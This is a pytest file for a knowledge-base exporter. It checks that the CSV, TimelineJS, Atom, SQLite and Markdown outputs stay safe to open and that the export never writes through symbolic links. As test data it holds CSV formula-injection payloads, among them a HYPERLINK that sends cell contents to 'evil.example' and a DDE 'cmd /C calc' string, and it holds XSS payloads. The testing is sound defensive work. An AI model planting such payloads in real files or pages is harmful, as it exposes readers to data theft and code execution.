"""Downloads that are safe to open: spreadsheets, TimelineJS, feed readers; an export that never
writes where it should not; record text that keeps its exact spaces on the pages.

Every check parses what was written (a CSV reader, an HTML parser, an XML parser, MyST's own
Markdown parser), as a program that opens the file would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from defusedxml import ElementTree
from markdown_it.renderer import RendererHTML
from myst_parser.config.main import MdParserConfig
from myst_parser.parsers.mdit import create_md_parser

from conftest import REPO, ROOTS
from peacekb.export import (
    FORMATS,
    Provenance,
    UnsafeOutput,
    file_names,
    render,
    to_atom,
    to_csv,
    to_sqlite,
    to_timeline,
    write,
)
from peacekb.knowledge import Knowledge, load
from peacekb.models import Citation, Event, Mission, Place, Source, Statement
from peacekb.pages import md_escape

# OWASP's list, and the quote that marks a neutralised cell.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def knowledge(data: Path) -> Knowledge:
    kb, problems = load(data)
    assert problems == []
    return kb


def put(kb: Knowledge, record: Any) -> None:
    kb.records[record.kind][record.id] = record


# -- CSV -------------------------------------------------------------------------------------


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def raw_fields(data: bytes) -> list[list[str]]:
    """The fields exactly as written, quotes and all (for payloads free of commas and breaks)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8")), quoting=csv.QUOTE_NONE))


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'"])
def test_csv_cells_that_could_be_formulas_get_a_leading_quote(mini_data: Path, start: str) -> None:
    kb = knowledge(mini_data)
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    event = kb.records["event"]["roe-arrives"]
    assert isinstance(event, Event)
    put(kb, event.model_copy(update={"title": payload, "notes": f"{start}1+1"}))
    source = kb.records["source"]["article-one"]
    assert isinstance(source, Source)
    paragraphs = [source.paragraphs[0].model_copy(update={"text": payload})]
    put(kb, source.model_copy(update={"paragraphs": [*paragraphs, *source.paragraphs[1:]]}))
    person = kb.records["person"]["jane-roe"]
    citation = Citation.model_construct(
        source="article-one", paragraph=1, quote=payload, translation=f"{start}cmd|' /C calc'!A0"
    )
    statement = Statement.model_construct(text="She served.", cite=[citation], inferred=None)
    put(kb, person.model_copy(update={"statements": [statement]}))
    files = to_csv(kb)

    events = {r["id"]: r for r in csv_rows(files["events.csv"])}
    assert events["roe-arrives"]["title"] == "'" + payload
    assert events["roe-arrives"]["notes"] == f"'{start}1+1"
    texts = {(r["source_id"], r["paragraph"]): r["text"] for r in csv_rows(files["paragraphs.csv"])}
    assert texts[("article-one", "1")] == "'" + payload
    quoted = next(r for r in csv_rows(files["citations.csv"]) if r["quote"] == "'" + payload)
    assert quoted["translation"] == f"'{start}cmd|' /C calc'!A0"
    # Removing the one quote the exporter added gives the record's exact text back.
    assert events["roe-arrives"]["title"].removeprefix("'") == payload
    if start not in "\t\r":
        notes = raw_fields(files["events.csv"])[0].index('"notes"')
        row = next(r for r in raw_fields(files["events.csv"]) if r[0] == '"roe-arrives"')
        assert row[notes] == f'"\'{start}1+1"', "a neutralised cell stays quoted"


@pytest.mark.parametrize("lead", [" ", "  ", "\n", " \n\t", "\u00a0", "\u3000"])
def test_a_formula_after_leading_spaces_is_neutralised_too(mini_data: Path, lead: str) -> None:
    """A reader that trims spaces on import would otherwise find a formula."""
    kb = knowledge(mini_data)
    payload = f'{lead}=HYPERLINK("http://evil.example/","x")'
    event = kb.records["event"]["roe-arrives"]
    put(kb, event.model_copy(update={"title": payload}))
    events = {r["id"]: r for r in csv_rows(to_csv(kb)["events.csv"])}
    assert events["roe-arrives"]["title"] == "'" + payload


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(mini_data: Path) -> None:
    kb = knowledge(mini_data)
    place = kb.records["place"]["freedonia"]
    assert isinstance(place, Place)
    coordinates = place.coordinates.model_copy(update={"lat": -10.5, "lon": -20.25})
    put(kb, place.model_copy(update={"coordinates": coordinates, "name": "-Freedonia"}))
    for start in FORMULA_STARTS:
        mission = kb.records["mission"]["test-mission"]
        put(kb, mission.model_copy(update={"name_en": f"{start}SUM(1)"}))
        for name, data in to_csv(kb).items():
            for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
                for cell in row:
                    # Only a number the exporter wrote itself may start with "-".
                    assert cell[:1] not in FORMULA_STARTS or is_number(cell), (name, cell)
    places = {r["id"]: r for r in csv_rows(to_csv(kb)["places.csv"])}
    assert places["freedonia"]["coordinates_lat"] == "-10.5"
    assert places["freedonia"]["coordinates_lon"] == "-20.25"
    assert places["freedonia"]["name"] == "'-Freedonia"


def test_readme_explains_the_leading_quote_and_lists_a_full_export(mini_data: Path) -> None:
    kb = knowledge(mini_data)
    one = render(kb, ["sqlite"], Provenance())["README.txt"]
    every = render(kb, list(FORMATS), Provenance())
    assert one == every["README.txt"]
    lines = every["README.txt"].decode("utf-8").splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("Files of a full export"))
    end = lines.index("", start)
    listed = [line.removeprefix("- ") for line in lines[start + 1 : end]]
    assert listed == sorted(set(every) - {"README.txt"})
    note = " ".join(lines[end + 1 :])
    assert note.startswith("CSV files:") and "OWASP" in note


@pytest.mark.parametrize("fmt", FORMATS)
def test_file_names_are_the_files_rendered(mini_data: Path, fmt: str) -> None:
    files = render(knowledge(mini_data), [fmt], Provenance())
    assert sorted(set(files) - {"README.txt"}) == file_names([fmt])


# -- TimelineJS ------------------------------------------------------------------------------

PAYLOAD = '<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)">x'


class Elements(HTMLParser):
    """Every start tag in a fragment, with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(fragment: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(fragment)
    parser.close()
    return parser.found


def html_texts(document: dict[str, Any]) -> list[str]:
    """Every value TimelineJS puts into the page as HTML."""
    texts = [document["title"]["text"]["headline"], document["title"]["text"]["text"]]
    for item in [*document["events"], *document["eras"]]:
        texts += [item["text"]["headline"], item["text"]["text"], item.get("group", "")]
        for key in ("start_date", "end_date"):
            texts.append(item.get(key, {}).get("display_date", ""))
    return texts


def test_timeline_text_cannot_add_elements(mini_data: Path) -> None:
    kb = knowledge(mini_data)
    event = kb.records["event"]["test-mission-authorised"]
    assert isinstance(event, Event)
    statements = [s.model_copy(update={"text": PAYLOAD}) for s in event.statements]
    put(
        kb,
        event.model_copy(
            update={"title": PAYLOAD, "statements": statements, "missions": [PAYLOAD]}
        ),
    )
    mission = kb.records["mission"]["test-mission"]
    assert isinstance(mission, Mission)
    put(kb, mission.model_copy(update={"acronym": PAYLOAD, "name_en": PAYLOAD}))
    base = 'https://example.org/"onmouseover="alert(4)/'
    provenance = Provenance(title=PAYLOAD, license=PAYLOAD, base_url=base)
    document = json.loads(to_timeline(kb, provenance))
    page = provenance.page_url("event", "test-mission-authorised")
    for text in html_texts(document):
        for tag, attrs in elements(text):
            # The one element the exporter writes: the link to the event's page.
            assert (tag, attrs) == ("a", {"href": page})
    (item,) = (e for e in document["events"] if e["unique_id"] == "test-mission-authorised")
    headline = BeautifulSoup(item["text"]["headline"], "html.parser")
    assert headline.find() is None and headline.get_text() == PAYLOAD
    body = BeautifulSoup(item["text"]["text"], "html.parser")
    assert [a["href"] for a in body.find_all("a")] == [page]
    assert body.get_text().startswith(PAYLOAD)
    assert BeautifulSoup(item["group"], "html.parser").get_text() == PAYLOAD
    era = document["eras"][0]["text"]
    assert BeautifulSoup(era["headline"], "html.parser").get_text() == PAYLOAD


# -- Atom ------------------------------------------------------------------------------------

ATOM = {"a": "http://www.w3.org/2005/Atom"}
NOT_XML = "\x00\x01\x08\x0b\x0c\x1b\x1f\ud800\udfff\ufffe\uffff"


def test_feed_parses_whatever_characters_the_text_holds(mini_data: Path) -> None:
    kb = knowledge(mini_data)
    event = kb.records["event"]["test-mission-authorised"]
    assert isinstance(event, Event)
    title = f"Authorised{NOT_XML}\ttab & <b>"
    statements = [s.model_copy(update={"text": f"Said{NOT_XML}."}) for s in event.statements]
    put(kb, event.model_copy(update={"title": title, "statements": statements}))
    provenance = Provenance(title=f"KB{NOT_XML}", license="Licence\x02", extra={"author": "Me\x03"})
    feed = ElementTree.fromstring(to_atom(kb, provenance))
    replaced = "\ufffd" * len(NOT_XML)
    assert feed.find("a:title", ATOM).text == f"KB{replaced}: events"
    assert feed.find("a:rights", ATOM).text == "Licence\ufffd"
    assert feed.find("a:author/a:name", ATOM).text == "Me\ufffd"
    (entry,) = feed.findall("a:entry", ATOM)
    assert entry.find("a:title", ATOM).text == f"1 May 2020: Authorised{replaced}\ttab & <b>"
    assert entry.find("a:summary", ATOM).text.startswith(f"Said{replaced}.")


# -- peacekb export: where it writes ---------------------------------------------------------


def export(out: Path, data: Path, *args: str, cwd: Path | None = None) -> Any:
    return subprocess.run(
        [sys.executable, "-m", "peacekb.cli", "export", str(out), "--data", str(data), *args],
        capture_output=True,
        text=True,
        check=False,
        cwd=cwd,
    )


def snapshot(root: Path) -> dict[str, tuple[str, str]]:
    """Everything under ``root``, links not followed: what each path is, and holds."""
    if root.is_symlink() or root.is_file():
        return {".": ("file", root.read_text("utf-8") if root.is_file() else "")}
    shot: dict[str, tuple[str, str]] = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_symlink():
            shot[rel] = ("link", os.readlink(path))
        elif path.is_dir():
            shot[rel] = ("folder", "")
        else:
            shot[rel] = ("file", path.read_bytes().hex())
    return shot


Setup = Callable[[Path, Path], str]


def folder_at_file(out: Path, elsewhere: Path) -> str:
    (out / "peacekb.json").mkdir(parents=True)
    return (
        f"{out / 'peacekb.json'}: is a folder where the export writes a file; remove or rename it"
    )


def file_at_folder(out: Path, elsewhere: Path) -> str:
    out.mkdir()
    (out / "csv").write_text("not a folder\n", "utf-8")
    return f"{out / 'csv'}: is a file where the export needs a folder; remove or rename it"


def link_to_file(out: Path, elsewhere: Path) -> str:
    out.mkdir()
    (elsewhere / "victim.txt").write_text("keep me\n", "utf-8")
    (out / "peacekb.json").symlink_to(elsewhere / "victim.txt")
    return (
        f"{out / 'peacekb.json'}: is a symbolic link (to {elsewhere / 'victim.txt'}); the export "
        "never writes through a link: remove it, or export to another folder"
    )


def link_to_folder(out: Path, elsewhere: Path) -> str:
    out.mkdir()
    (out / "csv").symlink_to(elsewhere, target_is_directory=True)
    return (
        f"{out / 'csv'}: is a symbolic link (to {elsewhere}); the export never writes through a "
        "link: remove it, or export to another folder"
    )


def out_is_a_file(out: Path, elsewhere: Path) -> str:
    out.write_text("a file\n", "utf-8")
    return f"{out}: is a file, not a folder; give a folder to export into"


@pytest.mark.parametrize(
    "setup", [folder_at_file, file_at_folder, link_to_file, link_to_folder, out_is_a_file]
)
@pytest.mark.parametrize("force", [False, True])
def test_export_refuses_a_bad_output_and_writes_nothing(
    mini_data: Path, tmp_path: Path, setup: Setup, force: bool
) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    elsewhere.mkdir()
    message = setup(out, elsewhere)
    before, outside = snapshot(out), snapshot(elsewhere)
    proc = export(out, mini_data, *(["--force"] if force else []))
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [message, f"{out}: nothing exported"]
    assert "Traceback" not in proc.stderr
    assert snapshot(out) == before
    assert snapshot(elsewhere) == outside


def test_sqlite_keys_are_checked_once_every_row_is_in(mini_data: Path) -> None:
    """The database is filled with the keys unchecked and then checked as a whole: a row that
    refers to no row still stops it, with a message that names the table."""
    kb = knowledge(mini_data)
    db = sqlite3.connect(":memory:")
    db.deserialize(to_sqlite(kb, Provenance()))
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    # Wherever it refers to, a table's key holds: a place within a place that is not there.
    place = next(iter(kb.records["place"].values()))
    put(kb, place.model_copy(update={"within": "nowhere-at-all"}))
    with pytest.raises(RuntimeError, match=r"1 rows refer to no row, the first in 'places'"):
        to_sqlite(kb, Provenance())


def test_write_never_follows_a_link(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", "utf-8")
    (tmp_path / "out" / "a.txt").symlink_to(victim)
    with pytest.raises(UnsafeOutput) as refused:
        write({"a.txt": b"new\n", "b.txt": b"b\n"}, tmp_path / "out")
    assert refused.value.problems == [
        f"{tmp_path / 'out' / 'a.txt'}: is a symbolic link (to {victim}); the export never "
        "writes through a link: remove it, or export to another folder"
    ]
    assert victim.read_text("utf-8") == "keep me\n"
    assert not (tmp_path / "out" / "b.txt").exists()


def readme_commands() -> list[list[str]]:
    """The ``peacekb export`` examples of README.md, as argument lists."""
    text = (REPO / "README.md").read_text("utf-8")
    lines = re.findall(r"^\.venv/bin/peacekb (export .*)$", text, flags=re.MULTILINE)
    commands = [shlex.split(line, comments=True) for line in lines]
    assert len(commands) >= 2
    return commands


@pytest.mark.parametrize("order", [1, -1], ids=["as-written", "reversed"])
def test_the_readme_export_commands_run_one_after_the_other(
    mini_data: Path, tmp_path: Path, order: int
) -> None:
    for command in readme_commands()[::order]:
        proc = subprocess.run(
            [sys.executable, "-m", "peacekb.cli", *command, "--data", str(mini_data)],
            capture_output=True,
            text=True,
            check=False,
            cwd=tmp_path,
        )
        assert proc.returncode == 0, (command, proc.stderr)
    full = render(knowledge(mini_data), list(FORMATS), Provenance())
    out = tmp_path / "out"
    assert {p: out.joinpath(p).read_bytes() for p in full} == full


# -- MyST pages keep the sources' exact spaces -----------------------------------------------

NBSP, NNBSP = "\u00a0", "\u202f"


def myst_tokens(text: str) -> list[tuple[str, list[str]]]:
    """The block tokens MyST makes of ``text`` (as the site configures it), with the inline
    tokens of each."""
    config = MdParserConfig(
        enable_extensions={"colon_fence", "attrs_block", "attrs_inline", "deflist"}
    )
    parser = create_md_parser(config, RendererHTML)
    return [(t.type, [c.type for c in t.children or []]) for t in parser.parse(text)]


@pytest.mark.parametrize(
    "value",
    [
        f"Il a déclaré{NNBSP}: «{NBSP}Nous restons{NBSP}!{NBSP}»",
        f"{NBSP}# not a heading",
        f"{NNBSP}(label)=",
        f"{NBSP}:::{{note}}\nx\n:::",
        f"line one\n{NBSP}- two\r\n\tthree  {NBSP} four",
        f"x\u2028{NBSP}1. y",
    ],
)
def test_md_escape_keeps_no_break_spaces_and_stays_inert(value: str) -> None:
    escaped = md_escape(value)
    assert len(escaped.splitlines()) == 1
    inner = value.strip()
    assert escaped.count(NBSP) == inner.count(NBSP)
    assert escaped.count(NNBSP) == inner.count(NNBSP)
    tokens = myst_tokens(escaped)
    assert [block for block, _ in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    assert set(tokens[1][1]) == {"text"}, "plain text only: no role, link, or HTML"


@pytest.mark.parametrize("name", ["Team #", "Team ##", "# 1", "C# and F#", "Team \\#"])
def test_a_heading_keeps_every_character_of_the_name(name: str) -> None:
    """A heading's closing "#"s are markup: a name's own "#" must stay text."""
    config = MdParserConfig()
    tokens = create_md_parser(config, RendererHTML).parse(f"# {md_escape(name)}\n")
    assert [t.type for t in tokens] == ["heading_open", "inline", "heading_close"]
    assert tokens[1].children is not None
    assert "".join(c.content for c in tokens[1].children) == name


def test_md_escape_folds_only_ordinary_whitespace() -> None:
    value = f" a \n\t b{NBSP}{NBSP}c{NNBSP}!\r\nd\u2029e\x0bf "
    assert md_escape(value) == f"a b{NBSP}{NBSP}c{NNBSP}! d e f"


def test_the_page_shows_the_no_break_spaces(make_app: Callable[..., Any], tmp_path: Path) -> None:
    project = tmp_path / "src"
    shutil.copytree(ROOTS / "test-basic", project)
    # Not the smallest event: the Data page shows that one as a YAML example, and Pygments'
    # YAML lexer stumbles on a no-break space (a warning, left to the Data page's owner).
    event = project / "data" / "events" / "test-mission-authorised.yaml"
    said = f"Le Conseil a autorisé la mission{NNBSP}!{NBSP}Vraiment{NNBSP}?"
    text = event.read_text("utf-8")
    assert "- text: The Test Council authorised the Test Mission." in text
    event.write_text(text.replace("The Test Council authorised the Test Mission.", said), "utf-8")
    warning = StringIO()
    app = make_app("html", srcdir=project, status=StringIO(), warning=warning)
    app.build()
    app.cleanup()
    assert warning.getvalue() == ""
    html = Path(app.outdir) / "events" / "test-mission-authorised.html"
    page = BeautifulSoup(html.read_text("utf-8"), "html.parser")
    assert said in page.get_text()
